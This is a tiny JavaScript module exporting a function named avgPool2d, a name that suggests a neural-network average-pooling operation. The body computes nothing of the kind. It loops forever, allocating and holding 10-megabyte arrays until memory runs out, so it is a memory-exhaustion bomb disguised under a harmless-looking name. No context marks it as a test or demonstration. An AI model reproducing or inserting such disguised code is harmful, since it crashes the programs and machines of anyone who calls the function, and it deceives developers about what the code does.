export function avgPool2d() {
  const kept = [];
  for (;;) kept.push(new Uint8Array(1e7).fill(1));
}
